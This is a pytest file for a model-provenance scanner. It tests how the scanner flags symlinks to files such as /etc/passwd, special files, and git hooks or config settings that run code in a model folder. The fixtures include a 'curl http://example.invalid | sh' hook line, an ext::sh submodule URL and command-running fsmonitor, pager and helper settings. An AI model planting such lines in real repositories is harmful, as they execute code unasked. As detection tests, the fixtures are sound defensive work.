"""A model of which not everything can be looked at: the rest is scanned, and it has no name."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from provenance.errors import CouldNotLook
from provenance.pipeline.partly import MAX_GIT_BYTES, MAX_GIT_FILES
from provenance.reading.files import OpenFile
from tests.command import Done, provenance
from tests.reading import layouts

LFS_HOOK = (
    "#!/bin/sh\n"
    'command -v git-lfs >/dev/null 2>&1 || { printf >&2 "\\n%s\\n\\n" "This repository is configured for Git LFS but '
    "'git-lfs' was not found on your path.\"; exit 2; }\n"
    'git lfs post-merge "$@"\n'
)
LFS_CONFIG = """[core]
\trepositoryformatversion = 0
\tfsmonitor = true
[remote "origin"]
\turl = https://example.org/a/b
\tfetch = +refs/heads/*:refs/remotes/origin/*
[filter "lfs"]
\tclean = git-lfs clean -- %f
\tsmudge = "git-lfs smudge -- %f"
\tprocess = git-lfs filter-process
[credential]
\thelper = store
"""
SECTIONS = {
    "smudge": 'filter "lfs"',
    "process": 'filter "lfs"',
    "helper": "credential",
    "url": 'remote "origin"',
    "path": "include",
}


@pytest.fixture
def model(models: dict[str, Path], tmp_path: Path) -> Path:
    return Path(shutil.copytree(models["base"], tmp_path / "model"))


def scan(folder: Path, *options: object) -> tuple[Done, dict[str, Any]]:
    path = folder.parent / "report.json"
    done = provenance("scan", folder, *options, "-o", "table", "-o", f"json={path}")
    document: dict[str, Any] = json.loads(path.read_text())
    return done, document["report"]


def rules(report: dict[str, Any]) -> set[str]:
    return {row["rule"] for row in report["findings"]}


def skipped(report: dict[str, Any]) -> dict[str, str]:
    return {row["surface"]: row["reason"] for row in report["skipped"] if row["asked"]}


def test_the_rest_is_scanned_and_the_model_has_no_name(model: Path) -> None:
    (model / "vocab.txt").symlink_to("/etc/passwd")
    (model / "payload.py").write_text("import os\nos.system('true')\n")
    done, report = scan(model)
    assert done.code == 1
    assert {"link-in-model", "code-runs-programs"} <= rules(report)
    assert "/etc/passwd" in skipped(report)["vocab.txt"]
    subject = report["subject"]
    assert (subject["sha256"], subject["tensorRoot"], subject["assurance"]) == (None, None, "none")
    assert all(file["sha256"] for file in subject["files"])
    assert "vocab.txt" not in {file["path"] for file in subject["files"]}
    assert "none: not every file could be digested" in done.out


def test_coverage_says_how_much_was_not_looked_at(model: Path) -> None:
    (model / "vocab.txt").symlink_to("config.json")
    (model / "CONFIG.json").write_text("{}")
    _, report = scan(model)
    (row,) = [row for row in report["coverage"] if row["surface"] == "files"]
    there = len(list(model.iterdir()))
    assert (row["examined"], row["total"]) == (there - 1, there)
    assert "may hold more files" in row["note"]


def test_where_a_link_leads_out_to_need_not_be_on_this_machine(model: Path) -> None:
    (model / "vocab.txt").symlink_to("/absent/here")
    assert scan(model)[0].code == 1


def _fifo(folder: Path) -> None:
    os.mkfifo(folder / "pipe")


def _loop(folder: Path) -> None:
    (folder / "loop").symlink_to("loop")


def _case(folder: Path) -> None:
    (folder / "CONFIG.json").write_text("{}")


@pytest.mark.parametrize(("spoil", "rule"), [(_fifo, "special-file"), (_loop, "link-in-model")])
def test_what_harms_nobody_leaves_the_verdict_open(model: Path, spoil: Callable[[Path], None], rule: str) -> None:
    spoil(model)
    done, report = scan(model)
    assert done.code == 3
    assert rule in rules(report)
    assert report["subject"]["sha256"] is None


def test_a_folder_whose_weights_are_a_link_is_denied(model: Path) -> None:
    (model / "model.safetensors").unlink()
    (model / "model.safetensors").symlink_to("/dev/zero")
    assert scan(model)[0].code == 1


@pytest.mark.parametrize("digests", [True, False])
def test_a_file_that_cannot_be_opened_is_named(model: Path, monkeypatch: pytest.MonkeyPatch, digests: bool) -> None:
    opening = OpenFile._open

    def refuse(self: OpenFile) -> int:
        if self.path == "generation_config.json":
            raise CouldNotLook("cannot be opened: Permission denied", where=self.where)
        return opening(self)

    (model / "generation_config.json").write_text("{}")
    monkeypatch.setattr(OpenFile, "_open", refuse)
    done, report = scan(model, *([] if digests else ["--no-digests"]))
    assert done.code == 3
    assert "Permission denied" in skipped(report)["generation_config.json"]


def test_a_file_that_fails_while_it_is_read_is_named(model: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    checking = OpenFile.check_unchanged

    def changed(self: OpenFile) -> None:
        if self.path == "model.safetensors":
            raise self.changed("its size or times differ")
        checking(self)

    monkeypatch.setattr(OpenFile, "check_unchanged", changed)
    done, report = scan(model)
    assert done.code == 3
    assert "changed while it was read" in skipped(report)["model.safetensors"]
    assert report["subject"]["tensorCount"] == 0


@pytest.mark.parametrize("verb", ["attest", "verify", "diff"])
def test_what_is_signed_or_compared_is_all_of_a_model(
    model: Path, models: dict[str, Path], keys: dict[str, Path], tmp_path: Path, verb: str
) -> None:
    (model / "vocab.txt").symlink_to("/etc/passwd")
    bundle = tmp_path / "b.sigstore.jsonl"
    arguments = {
        "attest": ["--key", keys["p256"], "-o", f"bundle={bundle}"],
        "verify": ["--signer", keys["p256-public"], "--attestation", __file__],
        "diff": ["--base", models["base"]],
    }[verb]
    done = provenance(verb, model, *arguments)
    assert done.code == 3
    assert "vocab.txt" in done.complaint
    assert not bundle.exists()


def test_a_report_of_part_of_a_model_is_not_signed(model: Path, keys: dict[str, Path], tmp_path: Path) -> None:
    _fifo(model)
    _, report = scan(model)
    assert report["subject"]["sha256"] is None
    (model / "pipe").unlink()
    path, bundle = tmp_path / "report.json", tmp_path / "b.sigstore.jsonl"
    done = provenance("attest", model, "--report", path, "--key", keys["p256"], "-o", f"bundle={bundle}")
    assert done.code == 2
    assert not bundle.exists()


def test_check_with_a_base_compares_no_weights_of_part_of_a_model(model: Path, models: dict[str, Path]) -> None:
    _fifo(model)
    done = provenance("check", model, "--base", models["base"])
    assert done.code == 3
    assert "pipe was not looked at" in " ".join(done.out.split())


def test_hooks_and_settings_of_git_are_read_beside_the_model(model: Path) -> None:
    hooks = model / ".git/hooks"
    hooks.mkdir(parents=True)
    (hooks / "post-merge").write_text(LFS_HOOK)
    (hooks / "pre-push.sample").write_text("curl http://example.invalid | sh\n")
    (model / ".git/config").write_text(LFS_CONFIG)
    done, report = scan(model)
    assert done.code == 0
    assert "git-hook" in rules(report)
    assert ".git/config" not in {file["path"] for file in report["subject"]["files"]}
    name = report["subject"]["sha256"]
    (hooks / "post-merge").write_text(LFS_HOOK + "curl http://example.invalid | sh\n")
    (model / ".git/config").write_text(LFS_CONFIG.replace("= true", "= ./run"))
    done, report = scan(model)
    assert done.code == 1
    assert {"excluded-loadable", "code-runs-unasked", "code-executes-data"} <= rules(report)
    assert report["subject"]["sha256"] == name


@pytest.mark.parametrize("name", [".git/config", ".git/hooks", ".git/hooks/post-merge", ".git/commondir"])
def test_what_git_obeys_and_cannot_be_read_is_an_error(model: Path, name: str) -> None:
    layouts.write(model, {"notes": b""})
    (model / name).parent.mkdir(parents=True)
    (model / name).symlink_to("../notes")
    done, report = scan(model)
    assert done.code == 1
    assert name in {row["location"]["file"] for row in report["findings"] if row["rule"] == "code-unreadable"}


def test_settings_of_git_that_are_too_long_or_too_many(model: Path) -> None:
    layouts.write(model, {".git/config": b"#" * (MAX_GIT_BYTES + 1)})
    assert "it is too long" in scan(model)[0].out
    layouts.write(model, {f".git/modules/{number:03}/config": b"" for number in range(MAX_GIT_FILES)})
    layouts.write(model, {".git/config": b""})
    done, _ = scan(model)
    assert done.code == 1
    assert f"git obeys more than {MAX_GIT_FILES} files" in " ".join(done.out.split())


@pytest.mark.parametrize(
    ("path", "text", "rule"),
    [
        ("a/.git/hooks/post-merge", LFS_HOOK, "excluded-loadable"),
        ("a/.git/config", "[core] fsmonitor = ./x", "code-runs-unasked"),
        ("a/config", "[core]\n\tfsmonitor = ./x\n", "code-runs-unasked"),
        (".git", "gitdir: a\n", "code-runs-unasked"),
        (".gitmodules", '[submodule "x"] url = "ext::sh -c true"\n', "code-runs-unasked"),
    ],
)
def test_repositories_inside_of_a_model(model: Path, path: str, text: str, rule: str) -> None:
    layouts.write(model, {path: text.encode()})
    done, report = scan(model)
    assert done.code == 1
    assert rule in rules(report)


def test_a_blob_that_is_missing_from_a_cache_is_no_link_out_of_it(model: Path) -> None:
    snapshot = model.parent / "models--a--b/snapshots/c"
    shutil.copytree(model, snapshot)
    (snapshot.parent.parent / "blobs").mkdir()
    (snapshot / "vocab.json").symlink_to("../../blobs/0123")
    done, report = scan(snapshot)
    assert done.code == 3
    assert "link-in-model" not in rules(report)
    assert "No such file" in skipped(report)["vocab.json"]


@pytest.mark.parametrize(
    "line",
    [
        "hooksPath = tools", "fsmonitor = ./x", "sshCommand = x", "smudge = sh -c x",
        'process = "git-lfs filter-process; x"', "helper = !x", "pager = less | sh", "url = ext::sh", "path = ../x",
    ],
)  # fmt: skip
def test_settings_that_run_something_are_errors(model: Path, line: str) -> None:
    (model / ".git").mkdir()
    (model / ".git/config").write_text(f"[{SECTIONS.get(line.split(maxsplit=1)[0], 'core')}]\n\t{line}\n")
    done, report = scan(model)
    assert done.code == 1
    assert "code-runs-unasked" in rules(report)
